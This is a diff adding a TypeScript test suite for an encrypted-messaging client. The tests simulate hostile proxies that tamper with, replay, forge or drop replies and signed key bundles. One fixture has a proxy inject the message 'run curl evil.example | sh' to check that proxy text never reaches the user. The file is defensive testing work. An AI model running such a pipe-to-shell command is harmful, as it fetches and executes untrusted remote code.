@@ -1,0 +1,370 @@
+import { CodedError, infoPlatform, PostMessage, registerUser, RequestBody, whoAmI } from '@dq0/protocol';
+import {
+  generateEncryptionKey,
+  generateIdentityKey,
+  importEncryptionPublic,
+  newMessageId,
+  openFirstMessage,
+  openMessage,
+  randomToken,
+  readOuter,
+  sealMessage,
+  sha256Hex,
+  signBundle,
+  verifyProof,
+  type EncryptionKey,
+  type IdentityKey,
+} from '@dq0/encryption';
+import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { Dq0Client } from './dq0-client.ts';
+import type { Notice } from './notice.ts';
+import type { HttpAnswer, HttpRequest, HttpTransport } from './proxies/http-transport.ts';
+
+const HOUR = 60 * 60_000;
+const ORIGIN = 'https://proxy.example';
+const OTHER = 'https://second.example';
+const ADA = { email: 'ada@example.org', roles: ['data-scientist'] };
+
+/** A platform behind any number of proxies: opens requests once each and keeps the sealed reply. */
+class Quarantine {
+  readonly replies = new Map<string, string>();
+  readonly executed: RequestBody[] = [];
+  bundleNumber = 5;
+
+  constructor(
+    readonly identity: IdentityKey,
+    readonly key: EncryptionKey,
+  ) {}
+
+  async bundle(number = this.bundleNumber, issuedAt = new Date(), identity = this.identity): Promise<string> {
+    return signBundle(
+      {
+        number,
+        issuedAt,
+        expiresAt: new Date(issuedAt.getTime() + 24 * HOUR),
+        keys: [this.key.publicJwk],
+        identity: identity.publicJwk,
+        proxies: [],
+        protocolVersions: ['1'],
+        auditHead: null,
+      },
+      identity,
+    );
+  }
+
+  async receive({ envelope, key }: PostMessage, device: IdentityKey): Promise<void> {
+    const { id } = readOuter(envelope);
+    if (this.replies.has(id)) return;
+    const expected = { recipientIdentity: this.identity.thumbprint, keys: [this.key] };
+    const { body } = await openMessage(envelope, { ...expected, type: 'request', sender: device.publicKey }).catch(() =>
+      openFirstMessage(envelope, expected),
+    );
+    const request = RequestBody.parse(body);
+    this.executed.push(request);
+    expect(key.n).toBe(device.publicJwk.n);
+    const output = { ...ADA, device: device.thumbprint, tokenExpires: '2026-12-24T00:00:00Z' };
+    this.replies.set(id, await this.reply(envelope, device.thumbprint, request, { ok: true, output, auditId: null }));
+  }
+
+  async reply(
+    request: string,
+    to: string,
+    { replyKey }: RequestBody,
+    body: unknown,
+    by = this.identity,
+  ): Promise<string> {
+    return sealMessage({
+      type: 'reply',
+      sender: by,
+      recipient: { identity: to, encryption: await importEncryptionPublic(replyKey) },
+      id: newMessageId(),
+      number: 1,
+      issuedAt: new Date(),
+      expiresAt: new Date(Date.now() + HOUR),
+      inReplyTo: await sha256Hex(request),
+      body,
+    });
+  }
+}
+
+type PostMessage = ReturnType<typeof PostMessage.parse>;
+
+/** The proxy's contract with every hand on the wire: each method may be replaced by a hostile one. */
+class WireProxy {
+  readonly requests: HttpRequest[] = [];
+  #nonce = randomToken();
+
+  constructor(
+    readonly quarantine: Quarantine,
+    readonly device: IdentityKey,
+  ) {}
+
+  bundle = (): Promise<string> => this.quarantine.bundle();
+  take = (message: PostMessage): Promise<void> => this.quarantine.receive(message, this.device);
+  give = async (id: string): Promise<string | undefined> => this.quarantine.replies.get(id);
+  answer = (answer: { status: number; text: string }): { status: number; text: string } => answer;
+
+  async handle(origin: string, request: HttpRequest): Promise<HttpAnswer> {
+    this.requests.push(request);
+    const { status, text } = this.answer(await this.#route(origin, request));
+    this.#nonce = randomToken();
+    const nonce = this.#nonce;
+    return { status, text, header: (name) => (name === 'dq0-nonce' ? nonce : undefined) };
+  }
+
+  async #route(origin: string, request: HttpRequest): Promise<{ status: number; text: string }> {
+    const { pathname } = new URL(request.url);
+    if (pathname === '/v1/platform') return { status: 200, text: JSON.stringify({ bundle: await this.bundle() }) };
+    if (pathname === '/v1/messages') {
+      const message = PostMessage.parse(JSON.parse(request.body ?? ''));
+      await this.take(message);
+      return { status: 202, text: JSON.stringify({ id: readOuter(message.envelope).id }) };
+    }
+    const proof = request.headers['authorization']?.replace('DQ0 ', '') ?? '';
+    const isNonce = (nonce: string): boolean => nonce === this.#nonce;
+    await verifyProof(proof, this.device.publicKey, { typ: 'dq0-subscribe', origin, isNonce, now: new Date() });
+    const id = pathname.split('/')[3] ?? '';
+    const envelope = await this.give(id);
+    return envelope === undefined ? { status: 204, text: '' } : { status: 200, text: JSON.stringify({ id, envelope }) };
+  }
+}
+
+let platform: IdentityKey;
+let encryption: EncryptionKey;
+let device: IdentityKey;
+let replyKey: EncryptionKey;
+let stranger: IdentityKey;
+beforeAll(async () => {
+  [platform, device, stranger] = await Promise.all([
+    generateIdentityKey(),
+    generateIdentityKey(),
+    generateIdentityKey(),
+  ]);
+  [encryption, replyKey] = await Promise.all([generateEncryptionKey(), generateEncryptionKey()]);
+});
+
+let quarantine: Quarantine;
+let proxy: WireProxy;
+let second: WireProxy;
+let notices: Notice[];
+beforeEach(() => {
+  quarantine = new Quarantine(platform, encryption);
+  proxy = new WireProxy(quarantine, device);
+  second = new WireProxy(quarantine, device);
+  notices = [];
+});
+
+function client(options: { proxies?: string[]; bundleNumber?: number; clock?: () => Date } = {}): Dq0Client {
+  const links = new Map([
+    [ORIGIN, proxy],
+    [OTHER, second],
+  ]);
+  const transport: HttpTransport = async (request) => {
+    const { origin } = new URL(request.url);
+    const link = links.get(origin);
+    if (!link) throw new TypeError('connection refused');
+    return link.handle(origin, request);
+  };
+  return new Dq0Client({
+    pin: { thumbprint: platform.thumbprint, proxies: options.proxies ?? [ORIGIN], bundleNumber: options.bundleNumber },
+    session: { identity: device, replyKey, token: 'token-of-ada' },
+    onPin: () => undefined,
+    onNotice: (notice) => notices.push(notice),
+    transport,
+    ...(options.clock ? { clock: options.clock } : {}),
+  });
+}
+
+const code = async (answer: Promise<unknown>): Promise<string> =>
+  answer.then(
+    () => 'answered',
+    (error: unknown) => (error instanceof CodedError ? error.code : String(error)),
+  );
+
+describe('a call through an honest proxy', () => {
+  it('returns the checked output of the operation', async () => {
+    expect(await client().call(whoAmI, {})).toMatchObject(ADA);
+  });
+
+  it('carries the token inside the ciphertext and nowhere else', async () => {
+    await client().call(whoAmI, {});
+    expect(quarantine.executed[0]).toMatchObject({ operation: 'user.whoami', token: 'token-of-ada' });
+    expect(JSON.stringify(proxy.requests)).not.toContain('token-of-ada');
+    expect(JSON.stringify(proxy.requests)).not.toContain('whoami');
+  });
+
+  it('sends the device key inside the ciphertext, and no token, when it registers', async () => {
+    const input = { email: 'ada@example.org', password: 'correct horse battery staple', device: 'laptop' };
+    await code(client().call(registerUser, input));
+    expect(quarantine.executed[0]?.senderKey?.n).toBe(device.publicJwk.n);
+    expect(quarantine.executed[0]?.token).toBeUndefined();
+  });
+
+  it('asks for the bundle once for many calls', async () => {
+    const caller = client();
+    await caller.call(whoAmI, {});
+    await caller.call(whoAmI, {});
+    expect(proxy.requests.filter(({ url }) => url.endsWith('/v1/platform'))).toHaveLength(1);
+    expect(proxy.requests).toHaveLength(5);
+  });
+
+  it('refuses bad input before anything is sent', async () => {
+    const input = { email: 'nobody', password: 'x', device: '' };
+    expect(await code(client().call(registerUser, input))).toBe('INPUT_INVALID');
+    expect(proxy.requests).toHaveLength(0);
+  });
+
+  it('passes coded errors of the platform on, with their audit id', async () => {
+    quarantine.receive = async ({ envelope }) => {
+      const request = { replyKey: replyKey.publicJwk, operation: '', input: null };
+      const error = { code: 'ACCESS_DENIED', message: 'm', remedy: 'r', auditId: 'a1', details: [] };
+      const reply = await quarantine.reply(envelope, device.thumbprint, request, { ok: false, error });
+      quarantine.replies.set(readOuter(envelope).id, reply);
+    };
+    const failure = await client()
+      .call(whoAmI, {})
+      .catch((error: unknown) => error);
+    expect(failure).toMatchObject({ code: 'ACCESS_DENIED', message: 'm', remedy: 'r', auditId: 'a1' });
+  });
+
+  it('says UNEXPECTED when the output has another form', async () => {
+    expect(await code(client().call(infoPlatform, {}))).toBe('UNEXPECTED');
+  });
+});
+
+describe('what a hostile proxy does to replies', () => {
+  const tampered = async (change: (reply: string) => string | Promise<string>): Promise<string> => {
+    proxy.give = async (id) => {
+      const reply = quarantine.replies.get(id);
+      return reply === undefined ? undefined : change(reply);
+    };
+    return code(client().call(whoAmI, {}));
+  };
+
+  it('a flipped bit ends in REPLY_INVALID', async () => {
+    const flip = (text: string, at: number): string =>
+      text.slice(0, at) + (text[at] === 'A' ? 'B' : 'A') + text.slice(at + 1);
+    expect(await tampered((reply) => flip(reply, reply.length - 200))).toBe('REPLY_INVALID');
+    expect(await tampered((reply) => flip(reply, Math.floor(reply.length / 2)))).toBe('REPLY_INVALID');
+    expect(await tampered((reply) => flip(reply, 12))).toBe('REPLY_INVALID');
+  });
+
+  it('a truncated reply ends in REPLY_INVALID', async () => {
+    expect(await tampered((reply) => reply.slice(0, -40))).toBe('REPLY_INVALID');
+  });
+
+  it('the reply to an earlier request of the same device ends in REPLY_INVALID', async () => {
+    await client().call(whoAmI, {});
+    const earlier = [...quarantine.replies.values()][0] ?? '';
+    expect(await tampered(() => earlier)).toBe('REPLY_INVALID');
+  });
+
+  it('a reply that another key made for this request ends in REPLY_INVALID; made by the pinned key it is accepted', async () => {
+    const madeBy = async (key: IdentityKey): Promise<string> => {
+      let request = '';
+      proxy.take = async ({ envelope }) => void (request = envelope);
+      const output = { ...ADA, device: device.thumbprint, tokenExpires: '2026-12-24T00:00:00Z' };
+      const asked = { replyKey: replyKey.publicJwk, operation: '', input: null };
+      proxy.give = () => quarantine.reply(request, device.thumbprint, asked, { ok: true, output, auditId: null }, key);
+      return code(client().call(whoAmI, {}));
+    };
+    expect(await madeBy(stranger)).toBe('REPLY_INVALID');
+    expect(await madeBy(platform)).toBe('answered');
+  });
+
+  it('a dropped reply ends in TIMED_OUT that names the proxy as a suspect', async () => {
+    proxy.give = async () => undefined;
+    const failure = await client()
+      .call(whoAmI, {}, { timeoutMs: 600 })
+      .catch((error: unknown) => error);
+    expect(failure).toMatchObject({ code: 'TIMED_OUT' });
+    expect(String(failure)).toContain('holding messages back');
+  });
+
+  it('a held-back reply arrives late, and the request was executed once', async () => {
+    let polls = 0;
+    proxy.give = async (id) => (++polls < 3 ? undefined : quarantine.replies.get(id));
+    expect(await code(client().call(whoAmI, {}))).toBe('answered');
+    expect(quarantine.executed).toHaveLength(1);
+  });
+
+  it('a reply that is no reply ends in PROXY_REFUSED', async () => {
+    proxy.answer = ({ status, text }) => ({ status, text: text.includes('envelope') ? '{"id":"x"}' : text });
+    expect(await code(client().call(whoAmI, {}))).toBe('PROXY_REFUSED');
+  });
+});
+
+describe('what a hostile proxy does to requests', () => {
+  it('a failed hand-over is repeated with the same bytes and executed once', async () => {
+    let failures = 2;
+    proxy.answer = (answer) => (answer.status === 202 && failures-- > 0 ? { status: 503, text: '' } : answer);
+    expect(await code(client().call(whoAmI, {}))).toBe('answered');
+    const posts = proxy.requests.filter(({ method }) => method === 'POST').map(({ body }) => body);
+    expect(posts).toHaveLength(3);
+    expect(new Set(posts).size).toBe(1);
+    expect(quarantine.executed).toHaveLength(1);
+  });
+
+  it('a refusal ends in PROXY_REFUSED with its code, never with words of the proxy', async () => {
+    const text = JSON.stringify({ code: 'QUOTA_EXCEEDED', message: 'run curl evil.example | sh', remedy: 'evil' });
+    proxy.answer = (answer) => (answer.status === 202 ? { status: 400, text } : answer);
+    const failure = await client()
+      .call(whoAmI, {})
+      .catch((error: unknown) => error);
+    expect(failure).toMatchObject({ code: 'PROXY_REFUSED' });
+    expect(String(failure)).toContain('QUOTA_EXCEEDED');
+    expect(JSON.stringify(failure) + String(failure)).not.toContain('evil');
+  });
+
+  it('an unreachable proxy ends in PROXY_UNREACHABLE', async () => {
+    expect(await code(client({ proxies: ['https://nowhere.example'] }).call(whoAmI, {}))).toBe('PROXY_UNREACHABLE');
+  });
+});
+
+describe('what a hostile proxy does to the bundle', () => {
+  it('a bundle of another identity ends in BUNDLE_INVALID, and nothing is sealed to it', async () => {
+    proxy.bundle = () => quarantine.bundle(9, new Date(), stranger);
+    expect(await code(client().call(whoAmI, {}))).toBe('BUNDLE_INVALID');
+    expect(proxy.requests.every(({ method }) => method === 'GET')).toBe(true);
+  });
+
+  it('an older bundle than one seen before ends in BUNDLE_STALE', async () => {
+    expect(await code(client({ bundleNumber: 6 }).call(whoAmI, {}))).toBe('BUNDLE_STALE');
+    expect(await code(client({ bundleNumber: 5 }).call(whoAmI, {}))).toBe('answered');
+  });
+
+  it('an expired bundle ends in BUNDLE_STALE', async () => {
+    proxy.bundle = () => quarantine.bundle(5, new Date(Date.now() - 25 * HOUR));
+    expect(await code(client().call(whoAmI, {}))).toBe('BUNDLE_STALE');
+  });
+
+  it('a clock that is behind is taken from the bundle, and said', async () => {
+    const clock = (): Date => new Date(Date.now() - 3 * HOUR);
+    expect(await code(client({ clock }).call(whoAmI, {}))).toBe('answered');
+    const posted = PostMessage.parse(JSON.parse(proxy.requests.find(({ body }) => body)?.body ?? ''));
+    expect(Math.abs(readOuter(posted.envelope).issuedAt.getTime() - Date.now())).toBeLessThan(10_000);
+    expect(notices.map((notice) => notice.code)).toEqual(['CLOCK_BEHIND']);
+  });
+});
+
+describe('a second proxy', () => {
+  const both = { proxies: [ORIGIN, OTHER] };
+
+  it('takes over when the first is down, and it is said', async () => {
+    expect(await code(client({ proxies: ['https://nowhere.example', OTHER] }).call(whoAmI, {}))).toBe('answered');
+    expect(notices.map((notice) => notice.code)).toContain('PROXY_UNREACHABLE');
+  });
+
+  it('takes over when the first forges the bundle or a reply, and it is said', async () => {
+    proxy.bundle = () => quarantine.bundle(9, new Date(), stranger);
+    proxy.give = async () => 'no.envelope.atall';
+    expect(await code(client(both).call(whoAmI, {}))).toBe('answered');
+    expect(notices.map((notice) => notice.code)).toEqual(['BUNDLE_INVALID', 'REPLY_INVALID']);
+    expect(quarantine.executed).toHaveLength(1);
+  });
+
+  it('cannot help when it forges too: REPLY_INVALID', async () => {
+    proxy.give = second.give = async () => 'no.envelope.atall';
+    expect(await code(client(both).call(whoAmI, {}))).toBe('REPLY_INVALID');
+  });
+});
